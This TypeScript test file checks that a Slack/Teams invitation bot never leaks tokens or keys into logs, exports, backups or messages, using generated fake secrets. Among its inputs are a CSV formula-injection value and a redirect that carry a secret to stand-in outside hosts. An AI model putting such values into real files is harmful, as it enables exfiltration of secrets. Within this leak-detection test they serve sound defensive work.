import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { runRecord } from "../../src/cli/record/record.ts";
import { readConfig } from "../../src/config/config.ts";
import { PLATFORMS } from "../../src/domain/accounts/person.ts";
import { createLogger } from "../../src/lib/log.ts";
import { must } from "../support/must.ts";
import { begin, settle } from "../support/servers/cast.ts";
import type { Fault } from "../support/servers/faults.ts";
import type { TestPerson } from "../support/servers/person.ts";
import { BOT_TOKEN, SIGNING_SECRET } from "../support/servers/slack.ts";
import { sees, sendForm, startWhole, type Whole, type WholeOptions } from "../support/servers/whole.ts";
import { HOUR, MINUTE, SECOND } from "../support/world/times.ts";
import { createRandom, inFolder, type Play, pick, type Scenario } from "./scenario.ts";

/** Secrets, by what they are. */
type Secrets = Readonly<Record<string, string>>;

const LETTERS = "abcdefghijklmnopqrstuvwxyz";
const DIGITS = [..."0123456789"];
const ALL = [...LETTERS, ...LETTERS.toUpperCase(), ...DIGITS];

/** Secrets that nobody has seen before, as their makers shape them: they are known by that alone. */
function madeUp(random: () => number): Secrets {
  const some = (length: number, from: readonly string[] = ALL) =>
    Array.from({ length }, () => pick(random, from) ?? "").join("");
  return {
    "a bot token": `xoxb-${some(12, DIGITS)}-${some(13, DIGITS)}-${some(24)}`,
    "an app token": `xapp-1-A0${some(9)}-${some(13, DIGITS)}-${some(64, [...DIGITS, ..."abcdef"])}`,
    "a client secret": `${some(3)}8Q~${some(34)}`,
    "a signed token": `eyJ${some(33)}.eyJ${some(90)}.${some(86)}`,
    "a response address": `https://hooks.slack.com/actions/T0${some(8)}/${some(13, DIGITS)}/${some(24)}`,
    "an API key": `aZ9${some(29)}`,
  };
}

/** Which of them stand in the text, also in small letters; of an address what is secret, and not where it leads. */
function leaksIn(text: string, secrets: Secrets): string[] {
  return Object.entries(secrets).flatMap(([kind, secret]) => {
    const core = secret.replace("https://hooks.slack.com/", "");
    return text.includes(core) || text.includes(core.toLowerCase()) ? [kind] : [];
  });
}

type Planting = {
  readonly world: Whole;
  readonly random: () => number;
  /** One of these shapes with a secret of one kind in it. */
  plant<T>(where: string, shapes: Readonly<Record<string, (secret: string) => T>>): T;
  /** What is kept for a while, and stands in the log of the database until that is written over. */
  keptForAWhile(secret: string): void;
  /** What was shown, besides all that the bot has sent. */
  readonly seen: unknown[];
};

/** Lives in a bot with secrets around it, and looks for them afterwards in all that is kept, logged, shown or exported. */
const planted = (
  play: Play,
  what: string,
  options: Pick<WholeOptions, "mode" | "skips">,
  live: (planting: Planting) => Promise<void>,
): Promise<void> =>
  inFolder(async (folder) => {
    const random = createRandom(play.seed);
    const secrets = { ...madeUp(random), "the bot token": BOT_TOKEN, "the signing secret": SIGNING_SECRET };
    const passing: Record<string, string> = {};
    const path = join(folder, "setup.db");
    const lines: string[] = [];
    const struck = new Set<string>();
    const seen: unknown[] = [];
    let turn = 0;
    const log = createLogger({ level: "trace", stream: { write: (line) => void lines.push(line) } });
    const env = () => ({ DATABASE_PATH: path });
    const world = await startWhole({ ...options, platforms: PLATFORMS, env, log });
    try {
      await live({
        ...{ world, random, seen },
        plant: (where, shapes) => {
          const [kinds, all] = [Object.entries(secrets), Object.entries(shapes)];
          // In turn, so that few are as many kinds in as many shapes as can be.
          const [kind, secret] = must(kinds[(play.seed + turn) % kinds.length]);
          const [shape, make] = must(all[turn % all.length]);
          turn += 1;
          struck.add(`${where}, ${shape}, ${kind}`);
          play.count(`secrets in ${what}`);
          return make(secret);
        },
        keptForAWhile: (secret) => {
          passing[`where a file was put (${Object.keys(passing).length})`] = secret;
        },
      });
      world.bot.store.backup(join(folder, "copy.db"));
      for (const file of ["a.jsonl", "a.csv"])
        await runRecord([join(folder, file)], { path, kind: "real" }, () => {});
      const places = [
        ...readdirSync(folder).map((name) => [name, readFileSync(join(folder, name), "latin1")] as const),
        ["the log", lines.join("")] as const,
        ["what was shown", JSON.stringify([seen, shownBy(world)])] as const,
      ];
      play.count(`places and kinds in ${what}`, struck.size);
      play.count("lines of the log", lines.length);
      for (const [where, text] of places) {
        const wanted = where.endsWith("-wal") ? secrets : { ...secrets, ...passing };
        play.found(leaksIn(text, wanted).map((kind) => `${what}: ${kind} in ${where}`));
      }
    } finally {
      await world.stop();
    }
  });

/** All that the bot has sent, and all that is shown but what people typed. */
function shownBy({ slack, teams }: Whole): unknown {
  const { modals, homes, messages } = slack.state();
  const { dialogs, messages: inTeams } = teams.state();
  return [
    ...[modals, homes, messages, dialogs, inTeams.filter(({ author }) => author === null)],
    slack.calls().map(({ args }) => args),
    teams.calls().map(({ path, body }) => [path, body]),
  ];
}

const answer = (status: number, body: unknown, headers: Record<string, string> = {}): Fault => ({
  ...{ kind: "answer", status, body, headers },
});

/** Where in an answer somebody's secret can stand. */
const ANSWERS: Record<string, (secret: string) => Fault> = {
  "Slack's word for an error": (secret) => answer(200, { ok: false, error: secret }),
  "the scope that is missing": (secret) => answer(200, { ok: false, error: "missing_scope", needed: secret }),
  "Teams' word for an error": (secret) => answer(403, { error: { code: secret, message: secret } }),
  "Teams' older word": (secret) => answer(400, { message: JSON.stringify({ subCode: secret }) }),
  "a message": (secret) => answer(400, { message: `refused for ${secret}`, code: secret }),
  "a detail": (secret) => answer(403, { detail: `x-api-key ${secret} may not` }),
  "a list of details": (secret) => answer(422, { detail: [{ msg: secret, input: secret }] }),
  "a page": (secret) => answer(502, `<html><pre>authorization: Bearer ${secret}</pre></html>`),
  "a redirect": (secret) => answer(302, "", { location: `https://elsewhere.example/?token=${secret}` }),
  "a header": (secret) => answer(500, {}, { "x-request": secret, "retry-after": "1" }),
  "a 429": (secret) => answer(429, { error: secret }, { "retry-after": "1" }),
};

/** Slack, Teams and Mistral quote secrets in whatever they answer, while Requests are approved and people look around. */
const secretsInAnswers = (play: Play, requests: number): Promise<void> =>
  planted(play, "answers", { mode: "automatic" }, async ({ world, random, plant }) => {
    await begin(world, ["slack"], settle(world, { requesters: 2 }));
    const [ana, chloe, also] = [world.as("ana"), world.as("chloe"), world.inTeams("chloe")];
    await also.command("help");
    for (let n = 0; n < requests; n += 1) {
      await chloe.command(`invite p${n}@lumen.example`, "#mistral");
      await sendForm(chloe, "Ask for invitations", {});
      while (chloe.modal() !== null) await chloe.close();
    }
    await world.settle();
    const sides = [world.slack, world.teams, world.mistral];
    for (const [index, { faults }] of sides.entries())
      faults.take = () => (random() < 0.5 ? null : plant(`side ${index}`, ANSWERS));
    for (let n = 0; n < requests; n += 1) {
      await ana.press("Approve", { in: "#mistral-approvals" }).catch(() => {});
      for (const person of [chloe, also]) await person.command("status").catch(() => {});
      await world.later(MINUTE);
    }
    for (const { faults } of sides) faults.take = () => null;
    await world.later(30 * MINUTE);
  });

const FIELD = "Or a CSV file";
const PERSON = "p@lumen.example";

/** Where in a list that somebody gives a secret can stand: its name, and what is in it. */
const LISTS: Record<string, (secret: string) => readonly [name: string, text: string]> = {
  "the file's name": (secret) => [`${secret.replaceAll("/", "_")}.csv`, `email\n${PERSON}`],
  "a heading": (secret) => ["list.csv", `email;${secret}\n${PERSON};x`],
  "the heading of the addresses": (secret) => ["list.csv", `"e-mail [${secret}]"\n${PERSON}`],
  "a cell that nobody reads": (secret) => ["list.csv", `email;note\n${PERSON};${secret}`],
  "a cell for an address": (secret) => ["list.csv", `email\n${PERSON}\n${secret}`],
  "a name before an address": (secret) => ["list.csv", `email\n"${secret} <${PERSON}>"`],
  "an address": (secret) => ["list.csv", `email\n${PERSON}\n${secret}@lumen.example`],
  "a formula": (secret) => ["list.csv", `email\n${PERSON}\n"=HYPERLINK(""https://x.example/?k=${secret}"")"`],
  "a long cell": (secret) => ["list.csv", `email\n${PERSON}\n${"word ".repeat(120)}${secret}`],
  "no CSV": (secret) => ["list.csv", `PK\u0003\u0004\u0000${secret}`],
};

/** People give lists with secrets in them, and get the Record into a OneDrive whose address alone lets them write there. */
const secretsInFiles = (play: Play, rounds: number): Promise<void> =>
  planted(play, "files", { mode: "guided", skips: true }, async ({ world, plant, keptForAWhile, seen }) => {
    const [ana, chloe] = [world.as("ana"), world.as("chloe")];
    const [alsoAna, alsoChloe] = [world.inTeams("ana"), world.inTeams("chloe")];
    async function sends(person: Pick<TestPerson, "submit" | "modal" | "close">): Promise<void> {
      for (let times = 0; times < 2 && person.modal() !== null; times += 1) {
        seen.push(await person.submit().catch(() => null), person.modal());
        await world.settle();
      }
      for (let deep = 0; deep < 3; deep += 1) await person.close();
    }

    await begin(world, ["slack"], settle(world, { requesters: 2 }), false);
    await alsoAna.command("settings");
    await sees(() => ana.buttons("dm"), "Yes, that's me");
    await ana.press("Yes, that's me", { in: "dm" });
    await world.settle();
    for (let n = 0; n < rounds; n += 1) {
      // Many in a row, so that every shape gets into both.
      const platform = Math.floor((4 * n) / rounds) % 2 === 0 ? "slack" : "teams";
      const list = plant(platform, LISTS);
      if (platform === "slack") {
        await chloe.command("invite", "#mistral");
        await sees(chloe.modal, "Add others");
        await chloe.press("Add others", { in: "modal" });
        await sees(chloe.modal, FIELD);
        chloe.fill({ "E-mail addresses": "", [FIELD]: [...list] });
        await sends(chloe);
      } else {
        await alsoChloe.attach(...list);
        await world.settle();
        seen.push(alsoChloe.dm().at(-1));
        const goesOn = alsoChloe.buttons("dm").includes("Open the form");
        if (goesOn) await alsoChloe.press("Open the form", { in: "dm" });
        if (goesOn) await sends(alsoChloe);
      }
      await world.later(65 * SECOND);
    }
    await alsoAna.command("record");
    await sees(() => alsoAna.buttons("dm"), "Send as a file");
    await alsoAna.press("Send as a file", { in: "dm" });
    await world.later(5 * SECOND);
    world.teams.faults.add({ path: "/upload", fault: answer(500, {}) });
    await alsoAna.answerFile(true);
    for (const { upload } of world.teams.state().drive ?? []) keptForAWhile(upload ?? "?");
    await world.later(65 * SECOND);
    for (let hours = 0; hours < 3; hours += 1) await world.later(HOUR);
  });

/** All but where its own database is. */
const VARIABLES = [
  ...["SLACK_BOT_TOKEN", "SLACK_APP_TOKEN", "SLACK_SIGNING_SECRET", "SLACK_API_URL", "MICROSOFT_APP_ID"],
  ...["MICROSOFT_APP_PASSWORD", "MICROSOFT_APP_TENANT_ID", "TEAMS_LOCAL", "MISTRAL_ADMIN_API_KEY", "PORT"],
  ...["MISTRAL_API_KEY", "MISTRAL_API_URL", "MISTRAL_ADMIN_AUTH", "SETUP_OWNERS", "SYNC_SECONDS"],
  ...["BILLING_WARMUP_SECONDS", "LOG_LEVEL", "NODE_ENV", "HOST", "TEAMS_FILE_HOSTS"],
];

/** Everything a variable can be, with every kind of secret in it: no sentence that refuses it quotes it. */
function secretsInVariables(play: Play): void {
  for (const [kind, secret] of Object.entries(madeUp(createRandom(play.seed))))
    for (const names of [VARIABLES, ...VARIABLES.map((name) => [name])]) {
      const result = readConfig(Object.fromEntries(names.map((name) => [name, secret])));
      const said = result.ok ? "" : result.problems.join("\n");
      play.count("variables and kinds", names.length);
      play.found(leaksIn(said, { [kind]: secret }).map((leak) => `${leak} in ${names} is quoted: ${said}`));
    }
}

export const SECRETS: readonly Scenario[] = [
  {
    name: "secrets",
    about:
      "a secret in an answer, a list, a file or a variable is in no file, no line of the log and no message",
    run: async (play) => {
      await secretsInAnswers(play, play.of(150, 20));
      await secretsInFiles(play, play.of(200, 10));
      secretsInVariables(play);
    },
    atLeast: {
      ...{ "places and kinds in answers": [200, 8], "places and kinds in files": [80, 6] },
      ...{ "lines of the log": [300, 1], "variables and kinds": [240, 240] },
    },
  },
];
